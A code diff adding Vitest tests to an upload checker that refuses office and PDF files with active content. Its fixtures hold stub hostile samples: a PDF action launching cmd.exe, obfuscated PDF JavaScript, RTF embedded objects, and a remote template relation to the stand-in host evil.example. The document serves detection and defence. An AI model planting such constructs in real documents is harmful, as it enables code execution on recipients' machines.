@@ -1,3 +1,4 @@
+import { deflateSync } from 'node:zlib'
 import { fileTypeFromBuffer } from 'file-type'
 import { expect, test } from 'vitest'
 import { contentTypeOf, fileSentences } from '#shared/files/rules.ts'
@@ -138,6 +139,83 @@ const macros: [name: string, bytes: Buffer][] = [
 
 test.each(macros)('macros are refused with a way out: %s', async (name, bytes) => {
 	expect(await look(name, bytes)).toBe(fileSentences.macros)
+})
+
+const relation = (type: string, mode = 'External') =>
+	`<Relationships><Relationship Id="r1" Target="https://evil.example/x" TargetMode="${mode}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}"/></Relationships>`
+const settings = 'word/_rels/settings.xml.rels'
+const withPdf = (part: string) => latin(`%PDF-1.7\n1 0 obj\n${part}\nendobj\ntrailer\n%%EOF\n`)
+const objectStream = (part: string) => {
+	const packed = deflateSync(latin(part))
+	const head = latin('%PDF-1.7\n7 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>\nstream\r\n')
+	return Buffer.concat([head, packed, latin('\nendstream\nendobj\n%%EOF\n')])
+}
+
+const active: [why: string, name: string, bytes: Buffer][] = [
+	['an object', 'a.rtf', latin('{\\rtf1{\\object\\objemb{\\*\\objclass Equation.3}{\\*\\objdata 0105}}}')],
+	['data of an object alone', 'a.rtf', latin('{\\rtf1 A bill.{\\*\\objdata 0105000002}}')],
+	['a link that updates itself', 'a.rtf', latin('{\\rtf1\\objautlink\\objupdate}')],
+	['a program to start', 'a.pdf', withPdf('<< /OpenAction << /S /Launch /F (cmd.exe) >> >>')],
+	['a script', 'a.pdf', withPdf('<< /S /JavaScript /JS (app.alert\\(1\\)) >>')],
+	['a script with letters in disguise', 'a.pdf', withPdf('<< /S /J#61vaScr#69pt >>')],
+	['a script in packed objects', 'a.pdf', objectStream('1 0 << /S /JavaScript /JS (x) >>')],
+	['an object of another program', 'a.docx', zip([...docx, { name: 'word/embeddings/oleObject1.bin' }])],
+	['a control', 'a.xlsx', zip([...xlsx, { name: 'xl/activeX/activeX1.xml' }])],
+	[
+		'a template from elsewhere',
+		'a.docx',
+		zip([...docx, { name: settings, content: relation('attachedTemplate') }]),
+	],
+	[
+		'an object from elsewhere',
+		'a.pptx',
+		zip([...pptx, { name: 'ppt/_rels/presentation.xml.rels', content: relation('oleObject') }]),
+	],
+	['a packed program', 'a.doc', oldOffice('WordDocument', '\u0001Ole10Native')],
+	['the old editor of equations', 'a.doc', oldOffice('WordDocument', 'Equation Native')],
+]
+
+test.each(active)('%s in %s is refused with a way out', async (_, name, bytes) => {
+	expect(await look(name, bytes)).toBe(fileSentences.active)
+})
+
+const harmless: [why: string, name: string, bytes: Buffer][] = [
+	['words about objects', 'a.rtf', latin('{\\rtf1 a path \\\\object and an objection}')],
+	[
+		'a link to a page',
+		'a.docx',
+		zip([...docx, { name: 'word/_rels/document.xml.rels', content: relation('hyperlink') }]),
+	],
+	[
+		'its own template',
+		'a.docx',
+		zip([...docx, { name: settings, content: relation('attachedTemplate', 'Internal') }]),
+	],
+	[
+		'a chart with its numbers',
+		'a.pptx',
+		zip([...pptx, { name: 'ppt/embeddings/Microsoft_Excel_Sheet1.xlsx' }]),
+	],
+	['a word that only begins like it', 'a.pdf', withPdf('<< /LaunchPad true /JavaScripts [] >>')],
+	['packed objects without a script', 'a.pdf', objectStream('1 0 << /S /URI >>')],
+]
+
+test.each(harmless)('%s in %s is no reason to refuse it', async (_, name, bytes) => {
+	expect(await look(name, bytes)).toBeUndefined()
+})
+
+test('what is made to keep the check busy takes it seconds at most', async () => {
+	const streams = withPdf('/ObjStm stream\n'.repeat(300_000))
+	const relations = zip([...docx, { name: settings, content: '<Relationship '.repeat(70_000) }])
+	const began = performance.now()
+	expect(await look('a.pdf', streams)).toBe(fileSentences.active)
+	expect(await look('a.docx', relations)).toBeUndefined()
+	expect(performance.now() - began).toBeLessThan(5000)
+})
+
+test('relations that unpack to more than a document needs are refused', async () => {
+	const bomb = zip([...docx, { name: settings, content: ' '.repeat(2_000_000) }])
+	expect(await look('a.docx', bomb)).toBe(fileSentences.type)
 })
 
 test('an empty file is called empty', async () => {
